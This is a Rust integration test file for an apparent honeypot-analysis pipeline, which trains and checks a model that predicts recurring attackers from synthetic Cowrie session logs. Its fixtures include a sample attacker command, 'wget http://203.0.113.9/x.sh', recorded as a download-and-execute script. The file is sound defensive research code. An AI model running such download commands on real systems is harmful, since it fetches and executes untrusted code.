//! Integration test: preprocessing scenario, train → save → predict round trip, error paths.

use honeypot_recurrence::{
    config::{ForestConfig, PipelineConfig},
    features::{EventType, Preprocessor},
    predict::run_predictor,
    storage::ArtifactStore,
    training::{run_trainer, TrainOptions},
    PipelineError,
};
use serde_json::{json, Value};
use std::path::Path;

fn event(session: &str, ip: &str, eventid: &str, message: &str) -> Value {
    json!({
        "_id": {"$oid": format!("{}-{}", session, eventid)},
        "ip": ip,
        "data": {
            "session": session,
            "eventid": eventid,
            "message": message,
            "src_ip": ip,
            "src_port": 50123,
            "timestamp": "2021-03-01T10:00:00Z",
            "ip_country": "NL",
            "sensor": "cowrie-01",
            "password": "admin",
        }
    })
}

/// Recurring attackers run a download-and-execute script; one-shot visitors log in and leave.
fn attacker_session(session: &str, ip: &str, recurring: bool) -> Vec<Value> {
    let mut out = vec![event(session, ip, "login.success", "login attempt succeeded")];
    if recurring {
        for _ in 0..4 {
            out.push(event(session, ip, "command.input", "CMD: wget http://203.0.113.9/x.sh"));
        }
        out.push(event(session, ip, "session.file_download", "Downloaded URL"));
    }
    out.push(event(session, ip, "session.closed", "Connection lost"));
    out
}

fn synthetic_export() -> Vec<Value> {
    let mut events = Vec::new();
    for k in 0..40 {
        let ip = format!("198.51.100.{}", k);
        let recurring = k % 2 == 0;
        let sessions = if recurring { 2 + k % 3 } else { 1 };
        for s in 0..sessions {
            events.extend(attacker_session(&format!("sess-{}-{}", k, s), &ip, recurring));
        }
    }
    events
}

fn write_json(path: &Path, events: &[Value]) {
    std::fs::write(path, serde_json::to_string(events).unwrap()).unwrap();
}

fn test_config(dir: &Path) -> PipelineConfig {
    PipelineConfig {
        artifacts_dir: dir.join("artifacts"),
        model_path: dir.join("model").join("model.bin"),
        forest: ForestConfig {
            n_trees: 25,
            ..ForestConfig::default()
        },
        ..PipelineConfig::default()
    }
}

#[test]
fn config_load_default() {
    let c = PipelineConfig::load(Path::new("nonexistent.json")).unwrap();
    assert_eq!(c.ingest.chunk_size, 10_000);
    assert_eq!(c.split.seed, 42);
}

#[test]
fn two_sessions_one_ip_scenario() {
    let records = vec![
        json!({"ip": "1.2.3.4", "data": {"session": "s1", "eventid": "login.success"}}),
        json!({"ip": "1.2.3.4", "data": {"session": "s1", "eventid": "command.input"}}),
        json!({"ip": "1.2.3.4", "data": {"session": "s1", "eventid": "command.input"}}),
        json!({"ip": "1.2.3.4", "data": {"session": "s2", "eventid": "login.success"}}),
        json!({"ip": "1.2.3.4", "data": {"session": "s2", "eventid": "session.closed"}}),
        json!({"ip": "9.9.9.9", "data": {"eventid": "login.success"}}),
    ];
    let config = PipelineConfig::default();
    let store = ArtifactStore::disabled();
    let sessions = Preprocessor::new(&config, &store, true)
        .process_records(&records)
        .unwrap();

    assert_eq!(sessions.len(), 2);
    let s1 = &sessions.records()[0];
    let s2 = &sessions.records()[1];
    assert_eq!(s1.session_id, "s1");
    assert_eq!(s1.events.get(EventType::CommandInput), 2);
    assert_eq!(s2.events.get(EventType::CommandInput), 0);
    assert_eq!(s1.events.total(), 3);
    assert_eq!(s2.events.total(), 2);
    assert_eq!(s1.label, Some(1));
    assert_eq!(s2.label, Some(1));
    assert!(sessions.iter().all(|r| r.ip() != Some("9.9.9.9")));
}

#[test]
fn train_then_predict() {
    let dir = tempfile::tempdir().unwrap();
    let config = test_config(dir.path());
    let train_path = dir.path().join("train.json");
    write_json(&train_path, &synthetic_export());

    let report = run_trainer(
        &train_path,
        &config,
        TrainOptions {
            save_model: true,
            save_data: true,
        },
    )
    .unwrap();

    // 20 recurring IPs with 2..=4 sessions each, 20 one-shot IPs
    let recurring_sessions: usize = (0..40).filter(|k| k % 2 == 0).map(|k| 2 + k % 3).sum();
    assert_eq!(report.positives, recurring_sessions);
    assert_eq!(report.negatives, 20);
    assert_eq!(report.train_ips + report.test_ips, 40);
    assert_eq!(report.test_ips, 14); // ceil(40 * 0.33)
    assert_eq!(report.train_rows + report.test_rows, recurring_sessions + 20);
    assert_eq!(report.metrics.precision, 1.0);
    assert_eq!(report.metrics.recall, 1.0);
    assert_eq!(report.metrics.false_positives, 0);
    assert_eq!(report.schema_fingerprint.len(), 64);

    assert!(config.model_path.exists());
    let store = ArtifactStore::new(&config.artifacts_dir, true);
    for name in ["sessions", "factorized", "x_train", "y_train", "x_test", "y_test", "flat_chunk_0"] {
        assert!(store.path(name).exists(), "missing artifact {}", name);
    }
    let y_test: Vec<usize> = store.load("y_test").unwrap();
    assert_eq!(y_test.len(), report.test_rows);

    let predict_path = dir.path().join("new.json");
    let mut fresh = attacker_session("new-1", "192.0.2.77", true);
    fresh.extend(attacker_session("new-2", "192.0.2.78", false));
    write_json(&predict_path, &fresh);

    let predictions = run_predictor(&predict_path, &config, false).unwrap();
    let labels: Vec<usize> = predictions.iter().map(|p| p.label).collect();
    assert_eq!(labels, vec![1, 0]);
    assert_eq!(predictions[0].session_id, "new-1");
    assert_eq!(predictions[0].ip.as_deref(), Some("192.0.2.77"));
    assert!(predictions[0].score > 0.5);
}

#[test]
fn train_without_saving_model() {
    let dir = tempfile::tempdir().unwrap();
    let config = test_config(dir.path());
    let train_path = dir.path().join("train.json");
    write_json(&train_path, &synthetic_export());

    let report = run_trainer(
        &train_path,
        &config,
        TrainOptions {
            save_model: false,
            save_data: false,
        },
    )
    .unwrap();
    assert!(report.model_path.is_none());
    assert!(!config.model_path.exists());
    assert!(!config.artifacts_dir.exists());
}

#[test]
fn predict_without_model_fails() {
    let dir = tempfile::tempdir().unwrap();
    let config = test_config(dir.path());
    let path = dir.path().join("one.json");
    write_json(&path, &attacker_session("s1", "192.0.2.1", false));
    let err = run_predictor(&path, &config, false).unwrap_err();
    assert!(matches!(err, PipelineError::ModelMissing(_)));
}

#[test]
fn predict_reports_missing_input_before_missing_model() {
    let dir = tempfile::tempdir().unwrap();
    let config = test_config(dir.path());
    let err = run_predictor(&dir.path().join("absent.json"), &config, false).unwrap_err();
    assert!(matches!(err, PipelineError::InputMissing(_)));
}

#[test]
fn train_on_missing_input_fails() {
    let dir = tempfile::tempdir().unwrap();
    let config = test_config(dir.path());
    let err = run_trainer(&dir.path().join("absent.json"), &config, TrainOptions::default()).unwrap_err();
    assert!(matches!(err, PipelineError::InputMissing(_)));
}
